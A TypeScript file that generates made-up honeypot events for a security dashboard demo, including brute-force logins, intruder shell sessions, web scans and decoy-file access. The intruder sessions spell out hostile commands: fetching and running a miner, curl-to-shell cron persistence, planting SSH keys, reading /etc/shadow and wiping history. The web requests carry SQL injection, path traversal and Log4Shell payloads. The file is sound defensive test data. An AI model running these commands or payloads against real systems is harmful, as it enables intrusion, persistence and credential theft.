/**
 * What happens in the sample: a week of noise from the internet, some who got in, two who looked for holes in a shop, and
 * two quiet touches inside that matter more than all of it. Sources are addresses set aside for documentation; countries
 * and network owners are made up.
 */
import type { EventPlace } from '../../core/place.ts';
import type { SampleNode } from './nodes.ts';
import type { SampleRandom } from './random.ts';

/** An event as a sensor reports it, so many minutes before now. */
export interface SampleEvent {
  node: SampleNode;
  minutesAgo: number;
  record: { [name: string]: unknown };
  place: EventPlace | null;
}

const dayMinutes = 24 * 60;
const minute = 1;
const second = 1 / 60;

const places: readonly EventPlace[] = (
  [
    ['NL', 'Example Hosting One'],
    ['DE', 'Example Cloud Rhine'],
    ['US', 'Example Compute West'],
    ['SG', 'Example Datacenter Asia'],
    ['BR', 'Example Telecom Sul'],
    ['VN', 'Example Broadband East'],
    ['FR', 'Example Serveurs'],
    ['IN', 'Example Fibre'],
    ['ZA', 'Example Mobile Cape'],
    ['JP', 'Example Network Kanto'],
  ] as const
).map(([country, network_owner], at) => ({ country, asn: 64_496 + at, network_owner }));

/** 64496 to 64511 are numbers of networks set aside for documentation. */
const placeOf = (at: number): EventPlace => places[at % places.length]!;

const accounts = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'postgres', 'test', 'git', 'deploy', 'user'];
const passwords = [
  '123456',
  'admin',
  'root',
  'password',
  'raspberry',
  'changeme',
  'qwerty',
  'P@ssw0rd',
  '12345678',
  'toor',
  'letmein',
  'ubuntu',
  'oracle',
  'welcome1',
  '1q2w3e4r',
  'admin123',
];

interface Visit {
  source: string;
  session: string;
  atMinutes: number;
  place: EventPlace;
  service?: string;
}

/** Steps of one shell session, each some seconds after the one before. */
function shell(
  visit: Visit,
  steps: readonly (readonly [activity: string, payload: string, extra?: object])[],
) {
  const { source, session, atMinutes, place, service = 'ssh' } = visit;
  let at = atMinutes;
  return steps.map(([activity, payload, extra], n): SampleEvent => {
    at -= (3 + ((n * 7) % 11)) * second;
    return {
      node: 'ssh',
      minutesAgo: at,
      place,
      record: { service, source_ip: source, activity, payload, extra: { session, ...extra } },
    };
  });
}

const login = (username: string, password: string, succeeded = false) =>
  [
    succeeded ? 'login succeeded' : 'login failed',
    `${username}:${password}`,
    { username, password },
  ] as const;
const run = (command: string) => ['command', command] as const;

/** Most give up after a few guesses, one in four does not. */
function guessers(random: SampleRandom): SampleEvent[] {
  return Array.from({ length: 36 }, (_, n) => {
    const source = n < 18 ? `198.51.100.${10 + n * 5}` : `203.0.113.${7 + (n - 18) * 6}`;
    const place = placeOf(random.between(0, places.length - 1));
    const days = random.next() ** 1.3 * 7;
    const tries = n % 4 === 3 ? random.between(12, 20) : random.between(1, 4);
    const service = n % 6 === 5 ? 'telnet' : 'ssh';
    const visit = { source, session: `demo-guess-${n}`, atMinutes: days * dayMinutes + 30, place, service };
    return shell(visit, [
      ['connection', ''],
      ...Array.from({ length: tries }, () => login(random.pick(accounts), random.pick(passwords))),
      ['connection closed', ''],
    ]);
  }).flat();
}

const intruders = (): SampleEvent[] => [
  ...shell({ source: '203.0.113.66', session: 'demo-miner', atMinutes: 190, place: placeOf(3) }, [
    ['connection', ''],
    ['client version', 'SSH-2.0-Go', { version: 'SSH-2.0-Go' }],
    ...['123456', 'admin', 'root', 'toor', 'password', 'qwerty'].map((word) => login('root', word)),
    login('root', 'dragon', true),
    run('uname -a; nproc; cat /proc/cpuinfo | grep "model name" | head -1'),
    run(
      'cd /tmp && wget -q http://198.51.100.99/bins/x86_64 -O .x && chmod +x .x && ./.x -o pool.example:3333',
    ),
    ['file download', 'http://198.51.100.99/bins/x86_64', { url: 'http://198.51.100.99/bins/x86_64' }],
    run('(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.99/c.sh | sh") | crontab -'),
    run('history -c; rm -f ~/.bash_history'),
    ['connection closed', ''],
  ]),
  ...shell(
    { source: '198.51.100.201', session: 'demo-key', atMinutes: 2.4 * dayMinutes, place: placeOf(1) },
    [
      ['connection', ''],
      login('admin', 'admin', true),
      run('whoami; id; w; last | head'),
      run('mkdir -p ~/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABDEMO mdrfckr" >> ~/.ssh/authorized_keys'),
      run('chattr +i ~/.ssh/authorized_keys; cat /etc/shadow'),
      ['connection closed', ''],
    ],
  ),
  ...shell(
    {
      source: '203.0.113.140',
      session: 'demo-botnet',
      atMinutes: 4.7 * dayMinutes,
      place: placeOf(5),
      service: 'telnet',
    },
    [
      ['connection', ''],
      login('root', 'xc3511', true),
      run('enable'),
      run('/bin/busybox ECCHI'),
      run('cd /var/run; tftp -g -r mips 198.51.100.77; chmod 777 mips; ./mips telnet'),
      ['connection closed', ''],
    ],
  ),
];

function web(random: SampleRandom): SampleEvent[] {
  const request = (
    source: string,
    minutesAgo: number,
    line: string,
    agent: string,
    at: number,
  ): SampleEvent => ({
    node: 'web',
    minutesAgo,
    place: placeOf(at),
    record: {
      service: 'http',
      source_ip: source,
      activity: 'http request',
      payload: `${line} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\n\r\n`,
      extra: {},
    },
  });
  const sqlmap = [
    'GET /products?id=1%27',
    'GET /products?id=1%20AND%201=1',
    'GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-',
    'GET /download?file=../../../../etc/passwd',
  ].map((line, n) => request('198.51.100.150', 55 - n * minute, line, 'sqlmap/1.8', 0));
  const log4shell = request(
    '203.0.113.201',
    1.2 * dayMinutes,
    'GET /login?user=$%7Bjndi:ldap://198.51.100.88:1389/a%7D',
    '${jndi:ldap://198.51.100.88:1389/a}',
    2,
  );
  const looked = ['/robots.txt', '/wp-login.php', '/favicon.ico', '/admin', '/login', '/'];
  const scanners = Array.from({ length: 14 }, (_, n) => {
    const days = random.next() * 6.8;
    return Array.from({ length: random.between(2, 5) }, (_, k) =>
      request(
        `192.0.2.${20 + n * 9}`,
        days * dayMinutes + 20 - k * second * 4,
        `GET ${n % 7 === 3 ? '/.env' : random.pick(looked)}`,
        'Mozilla/5.0 zgrab/0.x',
        n,
      ),
    );
  }).flat();
  return [...sqlmap, log4shell, ...scanners];
}

const inside = (): SampleEvent[] => [
  ...[0, 1, 2, 3].map(
    (n): SampleEvent => ({
      node: 'nas',
      minutesAgo: 26 * 60 - n * 2,
      place: null,
      record: {
        service: n < 2 ? 'smb' : 'ftp',
        source_ip: '10.20.30.41',
        activity: n < 2 ? 'file opened' : 'login failed',
        payload: n < 2 ? '\\\\nas-backup-3\\finance\\salaries-2026.xlsx' : 'backup:Summer2026!',
        extra: n < 2 ? { username: 'KOELN\\m.weber' } : { username: 'backup', password: 'Summer2026!' },
      },
    }),
  ),
  ...['ACCESSED', 'COPIED'].map(
    (action, n): SampleEvent => ({
      node: 'laptop',
      minutesAgo: 9 - n * 2,
      place: null,
      record: {
        hostname: 'fin-laptop-07',
        username: 'j.doe',
        file_accessed: 'passwords-2026.xlsx',
        file_path: 'C:\\Users\\j.doe\\Documents\\passwords-2026.xlsx',
        action,
        severity: 'CRITICAL',
        alert_type: 'decoy_access',
        process_name: 'powershell.exe',
      },
    }),
  ),
];

/** Oldest first. */
export const toSampleEvents = (random: SampleRandom): SampleEvent[] =>
  [...guessers(random), ...intruders(), ...web(random), ...inside()].sort(
    (a, b) => b.minutesAgo - a.minutesAgo,
  );
